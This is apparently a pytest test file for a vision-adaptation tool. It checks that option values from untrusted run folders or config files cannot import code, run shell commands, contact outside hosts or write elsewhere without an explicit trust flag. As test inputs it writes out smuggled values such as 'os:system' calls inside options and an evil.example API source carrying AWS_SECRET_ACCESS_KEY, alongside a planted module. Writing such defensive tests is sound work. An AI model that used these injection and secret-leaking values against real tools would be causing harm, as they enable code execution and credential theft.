"""Texts out of files import nothing, contact nothing and write nowhere without the user's word."""

from __future__ import annotations

import json
import os
import sys
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
import torch

from visionadapt.backbones.weights import read_tensors
from visionadapt.core import spec
from visionadapt.errors import BackboneError, VisionAdaptError
from visionadapt.runs.trust import wanted_by, wants

from ..conftest import SMALL_BACKBONE

SMALL = f"--backbone {SMALL_BACKBONE} --weights none --image-size 64 --epochs 1 --precision float32".split()
OWN = "import sys\nsys.harm = True\nfrom visionadapt.sources import FolderSource as Shop\nL = list\n"
Run = Callable[..., tuple[int, str]]
Make = Callable[..., Path]


@pytest.mark.parametrize(
    ("option", "value"),
    [
        ("data", "evil:Source(x)"),
        ("data", "evil.py:Source"),
        ("data", "folder(os:system(echo))"),
        ("data", "csv(a.csv, image=[x, {y: os:getenv(z)}])"),
        ("data", "photos (1)/evil.py:Source(x)"),
        ("data", "api(https://evil.example/list, image=url)"),
        ("data", "api(https://evil.example/list, image=url, token=AWS_SECRET_ACCESS_KEY)"),
        ("data", "sql(postgresql://evil.example/db, query=SELECT 1, image=a)"),
        ("data", "sql(env:DATABASE_URL, table=a, image=b)"),
        ("data", "shards({'hf://datasets/evil/x/a.tar': 1})"),
        ("data", "shards({'s3://evil/a.tar': 1})"),
        ("data", "csv(hf://datasets/evil/x/a.csv, image=file)"),
        ("adapter", "evil:Adapter"),
        ("adapter", "bottleneck(rank=os:system(echo))"),
        ("adapter", "lora(blocks=[os:system()])"),
        ("augment", "evil:pipeline"),
        ("augment", "dir(1)/evil.py:pipeline"),
        ("tracker", "tensorboard,evil:Tracker"),
        ("backbone", "hf-hub:evil/model"),
        ("backbone", "local-dir:/tmp/evil"),
        ("cache", "/somewhere/else"),
    ],
)
def test_what_would_do_more_than_read_images_needs_the_users_word(option: str, value: str) -> None:
    assert wants(option, value)
    assert option in wanted_by({option: value, "epochs": 3})


@pytest.mark.parametrize(
    ("option", "value"),
    [
        ("data", "photos"),
        ("data", "photos: the best (2)"),
        ("data", "csv(labels.csv, image=file, label=class, split=part)"),
        ("data", "folder(photos, group='sender([0-9]+)')"),
        ("data", "manifest(pulled)"),
        ("data", "json(labels.json, image=data.image, label=class)"),
        ("data", "arrow(labels.feather, image=file, label=class)"),
        ("adapter", "bottleneck(rank=16, blocks=last:66%)"),
        ("adapter", "none"),
        ("augment", "light"),
        ("tracker", "tensorboard,mlflow"),
        ("backbone", "vit_base_patch16_224.augreg_in21k"),
        ("weights", "/models/mine.safetensors"),
        ("cache", None),
        ("epochs", 3),
    ],
)
def test_ordinary_options_need_none(option: str, value: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    (tmp_path / "photos: the best (2)").mkdir()
    assert wants(option, value) == []


def test_a_cache_in_the_run_folder_and_one_that_exists_are_used(tmp_path: Path) -> None:
    (tmp_path / "shared" / "space").mkdir(parents=True)
    assert wants("cache", str(tmp_path / "shared"))
    assert wants("cache", str(tmp_path / "run" / "cache"), inside=tmp_path / "run") == []
    (tmp_path / "shared" / "space" / "space.json").write_text("{}")
    assert wants("cache", str(tmp_path / "shared")) == []


@pytest.fixture
def finished(visionadapt: Run, tinted_folder: Make, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Path]:
    """A run that could be resumed, beside a module that notes that it was imported."""
    monkeypatch.chdir(tmp_path)
    (tmp_path / "evil_module.py").write_text(OWN)
    code, output = visionadapt("train", "--data", tinted_folder(count=4), "--out", "run", "--adapter", "none", *SMALL)
    assert code == 0, output
    (tmp_path / "run" / "summary.json").unlink()
    yield tmp_path / "run"
    sys.__dict__.pop("harm", None)
    sys.modules.pop("evil_module", None)


@pytest.mark.slow
def test_a_strangers_run_folder_does_no_harm(finished: Path, visionadapt: Run, monkeypatch: pytest.MonkeyPatch) -> None:
    ran: list[str] = []
    monkeypatch.setattr(os, "system", ran.append)
    monkeypatch.setenv("SECRET", "canary-5d0a")
    before = json.loads((finished / "config.json").read_text())
    outside = finished.parent / "outside"
    edits = [
        ("data", "evil_module:Shop(data)"),
        ("data", f"{finished.parent}/evil_module.py:Shop(data)"),
        ("data", 'folder(os:system("harm"))'),
        ("data", 'csv(a.csv, image=x, drop=[os:system("harm")])'),
        ("data", "api(http://127.0.0.1:9/x, image=url, token=SECRET, private=True)"),
        ("data", f"sql(sqlite:///{outside}.db, table=a, image=b)"),
        ("adapter", 'bottleneck(rank=os:system("harm"))'),
        ("adapter", "evil_module:L"),
        ("augment", f"{finished.parent}/evil_module.py:L"),
        ("tracker", "evil_module:L"),
        ("backbone", "hf-hub:evil/model"),
        ("cache", str(outside)),
    ]
    for name, value in edits:
        part = "settings" if name in before["settings"] else "options"
        (finished / "config.json").write_text(json.dumps({**before, part: {**before[part], name: value}}))
        for tokens in (["train", "--resume", finished], ["report", finished], ["runs", finished.parent]):
            code, output = visionadapt(*tokens)
            assert "Traceback" not in output and "canary" not in output
            if tokens[0] == "train" and name != "cache":
                assert code == 2 and "--trust-run" in output and f"--{name}" in output, (value, output)
        assert not ran and not hasattr(sys, "harm") and not outside.exists(), value


@pytest.mark.slow
def test_with_the_users_word_the_run_is_resumed(finished: Path, visionadapt: Run) -> None:
    config = json.loads((finished / "config.json").read_text())
    config["options"]["cache"] = str(finished.parent / "elsewhere")
    (finished / "config.json").write_text(json.dumps(config))
    assert visionadapt("train", "--resume", finished)[0] == 0
    assert not (finished.parent / "elsewhere").exists()
    (finished / "summary.json").unlink()
    code, output = visionadapt("train", "--resume", finished, "--trust-run")
    assert code == 0, output
    assert (finished.parent / "elsewhere").is_dir()


@pytest.mark.parametrize("key", ['adapter = "evil_module:L"', '[data.api]\nurl = "https://evil.example"\nimage = "a"'])
def test_a_configuration_file_imports_and_contacts_nothing_by_itself(
    key: str, tmp_path: Path, visionadapt: Run, tinted_folder: Make, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    (tmp_path / "evil_module.py").write_text(OWN)
    data = [] if "data" in key else ["--data", tinted_folder(count=3)]
    (tmp_path / "run.toml").write_text(f"{key}\n")
    code, output = visionadapt("train", "--config", "run.toml", "--plan", *data, *SMALL)
    assert code == 2 and "--trust-config" in output and not hasattr(sys, "harm")
    (tmp_path / "run.toml").write_text("trust_run = true\n")
    assert visionadapt("train", "--config", "run.toml", *data)[0] == 2


@pytest.mark.parametrize("text", ["bottleneck(rank=os:getcwd())", "lora(blocks=[os:getcwd()])"])
def test_a_nested_name_is_never_imported(text: str) -> None:
    with pytest.raises(VisionAdaptError):
        spec.parse(text, "adapter", allow_import=True)


def test_a_checkpoint_that_contains_itself_is_refused(tmp_path: Path) -> None:
    endless: dict[str, Any] = {}
    endless["model"] = endless
    torch.save(endless, tmp_path / "endless.pth")
    with pytest.raises(BackboneError, match="endless"):
        read_tensors(tmp_path / "endless.pth")
